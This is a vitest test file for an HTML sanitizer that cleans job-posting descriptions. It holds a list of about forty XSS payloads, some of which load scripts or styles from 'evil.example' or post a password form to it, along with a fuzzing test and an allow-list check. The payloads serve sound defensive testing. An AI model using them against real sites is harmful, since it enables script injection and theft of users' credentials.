import fc from 'fast-check';
import { parseHTML } from 'linkedom';
import { describe, expect, test } from 'vitest';
import { cleanDescription, descriptionMax } from './description';

describe('an attack', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<p>a<img/src/onerror=alert(1)></p>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/account/delete">a</a>',
    '<a href="https://example.com" onmouseover=alert(1) id=x name=y class=z>a</a>',
    '<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">a</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////"><p>a</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>a</p>',
    '<link rel=stylesheet href="//evil.example/x.css"><p>a</p>',
    '<style>@import "//evil.example/x.css";</style><p>a</p>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">a</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)>a</details>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>a</marquee>',
    '<b><!--<script>--><script>alert(1)</script><!-- -->a</b>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;<p>a</p>',
    '<p title="`onmouseover=alert(1)">a</p>',
    '<p>a</p><plaintext><script>alert(1)</script>',
    '<x-foothold onclick=alert(1)>a</x-foothold>',
    '<a href="mailto:x@example.com?body=<script>alert(1)</script>">a</a>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  ])('%s leaves nothing that acts', (attack) => {
    for (const html of [attack, `<p>before</p>${attack}<p>after</p>`]) expectHarmless(html);
  });

  test('of any shape leaves nothing that acts', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        ' ',
        '=',
        '&',
        '&lt;',
        '&#106;',
        '<!--',
        '-->',
        '<p>',
        '</p>',
        '<a ',
        'href',
      ],
      ...[
        'javascript:',
        'https://a.example',
        '<script>',
        '</script>',
        '<svg>',
        '<style>',
        '</style>',
        '<math>',
      ],
      ...[
        'onerror',
        'alert(1)',
        '<img ',
        '<div>',
        '<ul>',
        '<li>',
        '\u0000',
        '\ud800',
        '<![CDATA[',
        ']]>',
        '<h1>',
      ],
      ...['<textarea>', '</textarea>', '<noscript>', 'text', '<br>', '<b>', '</b>', '<td>', '<pre>', '\n'],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const html = parts.join('');
        expectHarmless(html);
        const once = cleanDescription(html);
        expect(once === null ? null : cleanDescription(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });
});

describe('a posting', () => {
  test('keeps its paragraphs, headings, lists, emphasis and links', () => {
    const html =
      '<h2>You</h2><p>Write <strong>good</strong> <em>code</em><br />daily</p><ul><li>Go</li></ul><hr /><pre><code>x</code></pre>';
    expect(cleanDescription(html)).toBe(html);
    expect(cleanDescription('<p>See <a href=" https://a.example/?x=1&y=2 ">us</a></p>')).toBe(
      '<p>See <a href="https://a.example/?x=1&amp;y=2" rel="noopener nofollow ugc" target="_blank">us</a></p>',
    );
    expect(cleanDescription('<a href="mailto:jobs@a.example">Write</a>')).toContain('href="mailto:');
  });

  test('made of blocks and tables becomes paragraphs', () => {
    expect(
      cleanDescription('<div class="x"><h1>You</h1><div>One</div><div><span>Two</span></div></div>'),
    ).toBe('<h2>You</h2><p>One</p><p>Two</p>');
    expect(cleanDescription('<table><tr><th>Pay</th><td>Good</td></tr></table>')).toBe(
      '<p>Pay</p><p>Good</p>',
    );
  });

  test('loses the words of a link to nowhere safe no more than those of others', () => {
    expect(cleanDescription('<p>Go <a href="/jobs/1">here</a></p>')).toBe('<p>Go here</p>');
  });

  test('typed as plain text becomes paragraphs and keeps its signs', () => {
    expect(cleanDescription('We use List<String> & <5 ms.\nDaily.\n\n\nApply!')).toBe(
      '<p>We use List&lt;String&gt; &amp; &lt;5 ms.<br />Daily.</p><p>Apply!</p>',
    );
  });

  test.each(['', ' \n\n ', '<p> </p>', '<p>&nbsp;</p><br>', '<script>x</script>', '<!-- -->'])(
    'without text (%j) is none',
    (html) => expect(cleanDescription(html)).toBeNull(),
  );

  test('that is too long is cut with its elements closed', () => {
    const long = `<ul><li>${'<b>x</b>&amp;'.repeat(10_000)}</li></ul>`;
    const clean = cleanDescription(long) ?? '';
    expect(clean.length).toBeLessThanOrEqual(descriptionMax);
    expect(clean.length).toBeGreaterThan(descriptionMax - 50);
    expect(clean).toMatch(/<\/li><\/ul>$/);
    expect(cleanDescription(clean)).toBe(clean);
  });

  test.each(['<a ', '<p a="', '<b>x', '<p>'.concat('<ul><li>x'), '&', '<', '<!--', '<p>\n '])(
    'as long and odd as %j over and over is cleaned all the same',
    (piece) => {
      const clean = cleanDescription(piece.repeat(200_000 / piece.length)) ?? '';
      expect(clean.length).toBeLessThanOrEqual(descriptionMax);
    },
  );
});

const harmless = new Set('P BR HR UL OL LI H2 H3 H4 BLOCKQUOTE PRE CODE STRONG EM B I U A'.split(' '));

function expectHarmless(html: string): void {
  const clean = cleanDescription(html) ?? '';
  const { document } = parseHTML(`<html><body>${clean}</body></html>`);
  for (const element of document.body.querySelectorAll('*')) {
    expect(harmless).toContain(element.tagName);
    const names = [...element.attributes].map(({ name }) => name).sort();
    expect(names).toEqual(element.tagName === 'A' ? ['href', 'rel', 'target'] : []);
    if (element.tagName === 'A') expect(element.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)/i);
  }
}
